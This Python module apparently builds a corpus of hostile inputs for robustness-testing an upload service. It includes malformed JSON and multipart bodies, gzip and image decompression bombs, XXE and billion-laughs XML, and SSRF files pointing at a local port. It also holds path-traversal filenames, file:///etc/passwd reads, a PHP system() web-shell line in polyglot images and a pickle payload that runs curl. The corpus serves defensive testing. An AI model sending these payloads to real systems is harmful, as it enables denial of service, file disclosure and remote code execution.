"""A corpus of what no client of good will sends: bodies of requests, and media."""

import gzip
import io
import json
import random
import struct
import zipfile
import zlib
from collections.abc import Iterator
from typing import NamedTuple

from PIL import Image

JSON = "application/json"
FORM = "multipart/form-data; boundary=B"
GOOD = json.dumps({"items": [{"data": "AAAA"}]}).encode()
PART = b'Content-Disposition: form-data; name="files"; filename="x"\r\n\r\nx\r\n'
WHOLE = b"--B\r\n" + PART + b"--B--\r\n"


class Body(NamedTuple):
    """A body, and what is said of it.

    Attributes:
        kind: of hostility.
    """

    kind: str
    content_type: str
    content: bytes
    encoding: str = ""


def bodies() -> list[Body]:
    """All of them, each once."""
    found = [*_texts(), *_wrong_types(), *_types(), *_forms(), *_compressed(), *_by_chance()]
    return list(dict.fromkeys(found))


def _texts() -> Iterator[Body]:
    for text in (b"", b"null", b"[]", b"{", b"}", b"{}", b"0", b'""', b"NaN", b"\x00", b"true"):
        yield Body("no request", JSON, text)
    for text in (b"\xff\xfe", b"\xef\xbb\xbf" + GOOD, b"\xc0\xaf", b"\xed\xa0\x80", b"\x80" * 99):
        yield Body("invalid UTF-8", JSON, text)
    for codec in ("utf-16", "utf-16-be", "utf-32", "utf-7", "cp037"):
        yield Body("invalid UTF-8", JSON, GOOD.decode().encode(codec))
    for cut in range(1, len(GOOD)):
        yield Body("truncated", JSON, GOOD[:cut])
    for extra in (b"x", GOOD, b"\x00", b"]" * 100, b"//", b",", b"\n{}"):
        yield Body("trailing", JSON, GOOD + extra)
    for depth in (10, 200, 1000, 100_000):
        for opening in (b"[", b'{"items":', b'{"items":[{"data":', b'[{"":'):
            yield Body("deep", JSON, opening * depth)
            yield Body("deep", JSON, b'{"items":[{"data":"AAAA","id":' + opening * depth)
    for depth in (200, 50_000):
        closed = b"[" * depth + b"]" * depth
        yield Body("deep", JSON, b'{"items":' + closed + b"}")
        yield Body("deep", JSON, b'{"items":[{"data":"AAAA"}],"x":' + closed + b"}")
    for twice in (
        b'{"items":[{"data":"AAAA","data":"AAAA"}]}',
        b'{"items":[{"data":"AAAA"}],"items":[]}',
        b'{"items":[],"items":[{"data":"AAAA"}]}',
        b'{"items":[{"data":"AAAA","uri":"s3://a/b","uri":"s3://a/b"}]}',
        b'{"items":[{"data":"AAAA"}],"tasks":["quality"],"tasks":null}',
        b"{" + b'"items":[{"data":"AAAA"}],' * 5000 + b'"tasks":null}',
    ):
        yield Body("duplicate keys", JSON, twice)
    many = json.dumps({"items": [{"data": "AAAA"}], "tasks": ["x"] * 10_000}).encode()
    yield Body("many", JSON, many)
    yield Body("many", JSON, json.dumps({"items": [{"data": ""}] * 5000}).encode())
    yield Body("many", JSON, json.dumps({str(n): n for n in range(20_000)}).encode())
    yield Body("many", JSON, b" " * 1_000_000 + GOOD)


VALUES = (
    *("null", "true", "0", "-1", "1e999", "-1e999", "NaN", "Infinity", "1E400", "9" * 5000),
    *('""', '"\\u0000"', '"\\ud800"', '"\\u202e"', '"x"', "[]", "{}", "[[]]", '{"a":1}', "[null]"),
    *('"%"', '"s3://"', '"file:///etc/passwd"', '"' + "A" * 100_000 + '"', '"' + "A" * 9999 + '"'),
)
PLACES = (
    "$",
    '{"items":$}',
    '{"items":[$]}',
    '{"items":[{"data":$}]}',
    '{"items":[{"uri":$}]}',
    '{"items":[{"data":"AAAA","id":$}]}',
    '{"items":[{"data":"AAAA"}],"tasks":$}',
    '{"items":[{"data":"AAAA"}],"tasks":[$]}',
    '{"items":[{"data":"AAAA"}],"scorer":$}',
    '{"items":[{"data":"AAAA"}],"$":0}',
)


def _wrong_types() -> Iterator[Body]:
    for place in PLACES:
        for value in VALUES:
            written = value.strip('"') if '"$"' in place else value
            yield Body("wrong value", JSON, place.replace("$", written).encode())
    for uri in ("s3://a/" * 10_000, "https://" + "a." * 50_000, "https://a/" + "%" * 100_000):
        yield Body("wrong value", JSON, json.dumps({"items": [{"uri": uri}]}).encode())
    for text in ("ＡＡＡＡ", "AAA", "A=A=", "AAAA\n", "====", "-_-_"):
        asked = {"items": [{"data": text}]}
        yield Body("wrong value", JSON, json.dumps(asked, ensure_ascii=False).encode())


def _types() -> Iterator[Body]:
    for charset in ("utf-7", "x", "\xff", "", "utf-16"):
        yield Body("content type", f"{JSON}; charset={charset}", GOOD)
    for kind in (
        "",
        "text/html",
        "application/JSON",
        ";",
        "multipart/x",
        "a/b/c",
        "*/*",
        "\t",
        JSON * 999,
    ):
        yield Body("content type", kind, GOOD)
        yield Body("content type", kind, WHOLE)
    for boundary in ("", "; boundary=", "; boundary=C", '; boundary="', "; boundary=" + "B" * 9999):
        yield Body("wrong boundary", f"multipart/form-data{boundary}", WHOLE)
    yield Body("wrong boundary", FORM, GOOD)
    yield Body("wrong boundary", JSON, WHOLE)
    yield Body("wrong boundary", "multipart/form-data; boundary=B; boundary=C", WHOLE)
    for kind in ("", "; boundary=", "; boundary=C", "; boundary=B; charset=utf-7"):
        yield Body("charset", f"multipart/form-data{kind}", WHOLE.replace(b'"x"', b'"+2AA-"'))
        task = WHOLE.replace(b'files"; filename="x"', b'tasks"').replace(b"x\r\n--", b"+2AA-\r\n--")
        yield Body("charset", f"multipart/form-data{kind}", WHOLE[:-7] + task)


def _forms() -> Iterator[Body]:
    for cut in range(len(WHOLE)):
        yield Body("truncated", FORM, WHOLE[:cut])
    headers, _, _ = PART.partition(b"\r\n")
    for broken in (
        b"--B\r\n" * 1000,
        b"--B--",
        b"--B--\r\n" + WHOLE,
        b"--B\r\n\r\n\r\n--B--\r\n",
        b"--B\n" + PART.replace(b"\r\n", b"\n") + b"--B--\n",
        b"--B\r\n" + headers + b"\r\n",
        b"--B\r\n" + b"\r\n".join([headers] * 2000) + b"\r\n\r\nx\r\n--B--\r\n",
        b"--B\r\n: x\r\n\r\nx\r\n--B--\r\n",
        b"--B\r\nx\r\n\r\nx\r\n--B--\r\n",
        b"--B\r\n\x00: \x00\r\n\r\nx\r\n--B--\r\n",
        b"-" * 1_000_000,
        b"\r\n" * 100_000 + WHOLE,
        WHOLE.replace(b'; filename="x"', b""),
        WHOLE.replace(b"form-data", b"x"),
        WHOLE.replace(b"form-data", b"attachment"),
        WHOLE.replace(b'name="files"', b""),
        WHOLE.replace(b'name="files"', b"name*=utf-8''files"),
        WHOLE.replace(b'name="files"', b'name="files"; name="tasks"'),
        WHOLE.replace(b"\r\n\r\nx", b"\r\nX-Y: " + b"z" * 20_000 + b"\r\n\r\nx"),
        WHOLE.replace(b"\r\n\r\nx", b"\r\nContent-Transfer-Encoding: base64\r\n\r\nx"),
        WHOLE.replace(b"\r\n\r\nx", b"\r\nContent-Type: multipart/mixed; boundary=C\r\n\r\n--C--"),
        WHOLE.replace(b"\r\n\r\nx", b"\r\nContent-Length: 99999999\r\n\r\nx"),
    ):
        yield Body("broken form", FORM, broken)
    for count in (17, 200, 2000):
        yield Body("many parts", FORM, (b"--B\r\n" + PART) * count + b"--B--\r\n")
        task = b'Content-Disposition: form-data; name="tasks"\r\n\r\nquality\r\n'
        yield Body("many parts", FORM, (b"--B\r\n" + task) * count + WHOLE)
    for name in (b"tasks", b"scorer", b"", b"\xff", b"x" * 10_000, b"items", b"\x00"):
        yield Body("field name", FORM, WHOLE.replace(b"files", name))
    for name in (
        "",
        "../../x",
        "ü",
        "\ud7ff",
        "x" * 10_000,
        "a\x00b",
        "CON",
        "a\\b",
        "%00",
        "\x7f",
    ):
        yield Body("file name", FORM, WHOLE.replace(b'"x"', f'"{name}"'.encode()))


def _compressed() -> Iterator[Body]:
    bomb = gzip.compress(bytes(20_000_000))
    for encoding in ("gzip", "x-gzip", "deflate", "br", "zstd", "gzip, gzip", "identity, x"):
        for kind, sound in ((JSON, GOOD), (FORM, WHOLE)):
            yield Body("content encoding", kind, bomb, encoding)
            yield Body("content encoding", kind, gzip.compress(sound), encoding)


def _by_chance() -> Iterator[Body]:
    chance = random.Random(7)
    for kind, sound in ((JSON, GOOD), (FORM, WHOLE)):
        for _ in range(50):
            broken = bytearray(sound)
            for _ in range(3):
                broken[chance.randrange(len(broken))] = chance.randrange(256)
            yield Body("by chance", kind, bytes(broken))


# --- media ---------------------------------------------------------------------------------------


def media(video: bytes, port: int) -> dict[str, bytes]:
    """Files that are none, are too much, name others, or are two things at once.

    Args:
        video: a good MP4, to be spoilt.
        port: of 127.0.0.1, which they ask to be fetched from.
    """
    there = f"http://127.0.0.1:{port}/x"
    return _bombs() | _pointers(there) | _spoilt(video, there)


def polyglots() -> dict[str, bytes]:
    """Pictures that are something else as well; to be scored as the pictures that they are."""
    gif, png, jpeg = (_picture(name) for name in ("GIF", "PNG", "JPEG"))
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as folder:
        folder.writestr("a.txt", "a")
    script = b"<script>alert(1)</script><?php system($_GET['c']); ?>"
    return {
        "gif and script": gif + b"/*" + script + b"*/",
        "png and zip": png + archive.getvalue(),
        "jpeg and php": jpeg + script,
        "jpeg with a comment": jpeg[:2] + b"\xff\xfe\x00\x3b" + script[:57].ljust(57) + jpeg[2:],
        "png and pdf": png + b"%PDF-1.4\n%%EOF",
        "png and elf": png + b"\x7fELF" + bytes(60),
    }


def _picture(name: str) -> bytes:
    file = io.BytesIO()
    Image.linear_gradient("L").convert("RGB").resize((80, 60)).save(file, name)
    return file.getvalue()


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def _png(width: int, height: int, *chunks: bytes) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + b"".join(chunks) + _chunk(b"IEND", b"")


def _bombs() -> dict[str, bytes]:
    packed = zlib.compress(bytes(50_000_000), 9)
    edge = 2**31 - 1
    gif = bytearray(_picture("GIF"))
    gif[6:10] = b"\xff\xff\xff\xff"
    bmp = bytearray(_picture("BMP"))
    bmp[18:26] = struct.pack("<ii", edge, -edge)
    return {
        "png 50000 x 50000": _png(50_000, 50_000, _chunk(b"IDAT", packed)),
        "png of the largest size": _png(edge, edge, _chunk(b"IDAT", packed)),
        "png of no size": _png(0, 0, _chunk(b"IDAT", b"")),
        "png 1 x 500 million": _png(1, 500_000_000, _chunk(b"IDAT", packed)),
        "png with a text bomb": _png(8, 8, _chunk(b"zTXt", b"a\0\0" + packed)),
        "png with a profile bomb": _png(8, 8, _chunk(b"iCCP", b"a\0\0" + packed)),
        "png that claims a chunk of 2 GB": _png(8, 8) + struct.pack(">I", edge) + b"IDAT",
        "png without data": _png(8, 8),
        "png with wrong data": _png(8, 8, _chunk(b"IDAT", b"x" * 99)),
        "gif 65535 x 65535": bytes(gif),
        "bmp of the largest size": bytes(bmp),
        "tiff whose directory is itself": b"II*\0\x08\0\0\0\0\0\x08\0\0\0",
        "tiff of directories in a ring": b"II*\0\x08\0\0\0" + b"\x01\0" + bytes(12) + b"\x08\0\0\0",
        "tiff of 4 GB": b"II*\0\x08\0\0\0\x02\0"
        + struct.pack("<HHII", 256, 4, 1, 2**32 - 1)
        + struct.pack("<HHII", 257, 4, 1, 2**32 - 1)
        + bytes(4),
        "webp of wrong length": b"RIFF\xff\xff\xff\xffWEBPVP8X" + bytes(30),
        "jpeg that ends at once": b"\xff\xd8\xff\xd9",
        "jpeg 65535 x 65535": b"\xff\xd8\xff\xc0\0\x0b\x08\xff\xff\xff\xff\x01\x01\x11\0\xff\xd9",
        "gzip of zeros": gzip.compress(bytes(10_000_000)),
        "one byte": b"\xff",
        "null bytes": bytes(10_000),
    }


def _pointers(there: str) -> dict[str, bytes]:
    uri = there.encode()
    svg = b'<svg xmlns="http://www.w3.org/2000/svg"><image href="' + uri + b'"/></svg>'
    return {
        "playlist": b"#EXTM3U\n#EXT-X-TARGETDURATION:1\n#EXTINF:1,\n" + uri + b"\n",
        "playlist of a file": b"#EXTM3U\n#EXTINF:1,\nfile:///etc/passwd\n",
        "concat script": b"ffconcat version 1.0\nfile '" + uri + b"'\n",
        "manifest": b'<?xml version="1.0"?><MPD><BaseURL>' + uri + b"</BaseURL></MPD>",
        "svg": svg,
        "xml with an entity": b'<!DOCTYPE a [<!ENTITY x SYSTEM "' + uri + b'">]><a>&x;</a>',
        "xml of a billion laughs": b'<!DOCTYPE a [<!ENTITY a "'
        + b"ha" * 9
        + b'"><!ENTITY b "&a;&a;">]><a>&b;</a>',
        "postscript": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 9 9\n(" + uri + b") run\n",
        "html": b"<html><img src='" + uri + b"'></html>",
        "session description": b"v=0\nc=IN IP4 127.0.0.1\nm=video 1 RTP/AVP 96\n",
        "image script": b"push graphic-context\nfill 'url(" + uri + b")'\npop graphic-context\n",
        "real text": b"rtsp://127.0.0.1/x",
        "windows shortcut": b"[InternetShortcut]\nURL=" + uri,
        "pickle": b"cos\nsystem\n(S'curl " + uri + b"'\ntR.",
    }


def _spoilt(video: bytes, there: str) -> dict[str, bytes]:
    longest = b"\xff" * 8
    aside = b"url \0\0\0\0" + there.encode() + b"\0"  # a track whose samples are elsewhere
    moov = video.index(b"moov")
    return {
        "video cut in half": video[: len(video) // 2],
        "video of its head": video[:40],
        "video without an index": video[: moov - 4] + video[moov - 4 :].replace(b"moov", b"free"),
        "video of wrong sizes": video.replace(b"stsz", b"free"),
        "video with its samples elsewhere": video.replace(b"url \0\0\0\1", aside[:8]),
        "video whose box is endless": b"\0\0\0\x01ftyp" + longest + bytes(100),
        "video whose box is empty": b"\0\0\0\x08ftyp" + b"\0\0\0\0moov",
        "matroska that is endless": b"\x1aE\xdf\xa3" + b"\x01" + longest[:7] + bytes(100),
        "matroska of zeros": b"\x1aE\xdf\xa3" + bytes(10_000),
        "avi of nothing": b"RIFF\xff\xff\xff\xffAVI LIST" + longest,
    }
